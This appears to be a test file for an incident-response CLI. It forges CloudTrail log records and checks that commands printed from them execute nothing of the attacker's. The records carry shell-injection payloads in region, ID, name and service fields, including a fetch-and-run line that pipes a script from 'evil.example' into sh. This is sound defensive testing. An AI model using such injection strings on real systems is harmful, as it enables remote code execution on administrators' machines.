import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { type Emulator } from "../../sandbox/emulator";
import { type Clients, createClients } from "../../sandbox/provider";
import { apiCall, callers } from "../support/cloudtrail-records";
import { startCli } from "../support/cli";
import { startEmulator } from "../support/emulator";
import { unseen } from "../support/hostile";
import { scratch } from "../support/scratch";

const code = "; curl -s https://evil.example/i.sh | sh #";

function forgedId({ eventID }: { eventID?: string }): string | undefined {
  return eventID?.includes("curl") ? eventID : undefined;
}

/** Somebody who may write into the log bucket puts a file there; what is printed of it is copied by an administrator. */
describe("log files with records that somebody forged", function () {
  this.timeout(180_000);
  let emulator: Emulator;
  let aws: Clients;
  const folder = scratch("forged");

  const forged: [what: string, record: object][] = [
    ["a region", apiCall("cloudformation", "CreateStack", { awsRegion: `us-east-1${code}` })],
    ["a region of a new service", apiCall("newservice", "CreateWidget", { awsRegion: `us-east-1${code}` })],
    ["an event id", apiCall("newservice", "CreateGadget", { awsRegion: "us-east-1", eventID: "1 $(curl evil)" })],
    ["a name", apiCall("sqs", "CreateQueue", { requestParameters: { queueName: `q\n${code}\u001b[2J\u202e` } })],
    ["a user", apiCall("iam", "CreateUser", { requestParameters: { userName: "x; curl evil" } })],
    ["a service", { ...apiCall("sqs", "CreateThing", {}), eventSource: "$(curl evil).amazonaws.com" }],
    ["a call", apiCall("sqs", "Create`curl`", {})],
    ["an honest record", apiCall("cloudformation", "CreateStack", { awsRegion: "eu-west-1" })],
  ];

  before(async () => {
    emulator = await startEmulator();
    aws = createClients(emulator.endpoint);
    await aws.iam().createUser({ UserName: "ci-deploy" });
    await aws.s3("us-east-1").createBucket({ Bucket: "tlogs" });
    const time = new Date(Date.now() - 3600_000);
    const userIdentity = { ...callers.user, userName: "ci-deploy", arn: "arn:aws:iam::123456789012:user/ci-deploy" };
    const records = forged.map(([, record], at) => ({
      ...record,
      userIdentity,
      eventID: forgedId(record) ?? `00000000-0000-4000-8000-00000000000${at}`,
      eventTime: `${time.toISOString().slice(0, 19)}Z`,
    }));
    const day = time.toISOString().slice(0, 10).replaceAll("-", "/");
    await aws.s3("us-east-1").putObject({
      Bucket: "tlogs",
      Key: `AWSLogs/123456789012/CloudTrail/us-east-1/${day}/x.json.gz`,
      Body: gzipSync(JSON.stringify({ Records: records })),
    });
  });
  after(async () => {
    rmSync(folder, { recursive: true, force: true });
    aws?.destroy();
    await emulator?.stop();
  });

  /** Runs a step, and every line that it prints in a shell in which each program only tells that it was called. */
  async function pasted(...step: string[]): Promise<{ stdout: string; called: string[][] }> {
    const evidence = join(folder, "evidence");
    const where = ["--endpoint", emulator.endpoint, "--evidence", evidence, "--region", "us-east-1"];
    const { stdout } = await startCli(["respond", "user/ci-deploy", ...step, "--bucket", "tlogs", ...where]).ended;
    const calls = join(folder, "calls");
    writeFileSync(calls, "");
    for (const name of ["aws", "npm", "curl", "sh", "q"]) {
      const path = join(folder, name);
      writeFileSync(path, `#!/bin/sh\nprintf '%s\\0' ${name} "$@" >>'${calls}'\nprintf '\\n' >>'${calls}'\n`);
      chmodSync(path, 0o755);
    }
    // Commands and what stands in their place are whole lines; all else is prose.
    for (const line of stdout.split("\n").filter((each) => /^ {4,}(aws|npm|No command:) /.test(each))) {
      spawnSync("/bin/sh", ["-c", line], { cwd: folder, env: { PATH: folder } });
    }
    const called = readFileSync(calls, "utf8").split("\0\n").filter(Boolean);
    return { stdout, called: called.map((each) => each.split("\0")) };
  }

  for (const step of ["timeline", "sweep"]) {
    it(`${step}: runs nothing of theirs, and what it says to run is what is meant`, async () => {
      const { stdout, called } = await pasted(step);
      assert.doesNotMatch(stdout.replaceAll("\n", ""), unseen);
      for (const [program, ...words] of called) {
        assert.match(program ?? "", /^(aws|npm)$/, `${program} ${words.join(" ")}\n${stdout}`);
        assert.ok(
          words.every((word) => !/[;$`|\n]|curl/.test(word)),
          words.join(" "),
        );
      }
      assert.ok(called.length > 0, stdout);
      assert.ok(existsSync(join(folder, "evidence", "evidence.jsonl")));
    });
  }

  it("sweep: names what is no region, in quotation marks, and keeps the honest command", async () => {
    const { stdout, called } = await pasted("sweep");
    assert.match(
      stdout,
      /No command: 'us-east-1; curl -s https:\/\/evil\.example\/i\.sh \| sh #' is not a region name\./,
    );
    assert.match(stdout, /No command: 'AttributeKey=EventId,AttributeValue=1 \$\(curl evil\)' is not an event id/);
    const at = ["--region", "eu-west-1", "--endpoint-url", emulator.endpoint];
    const honest = ["aws", "cloudformation", "list-stacks", ...at];
    assert.ok(
      called.some((words) => words.join(" ") === honest.join(" ")),
      stdout,
    );
  });
});
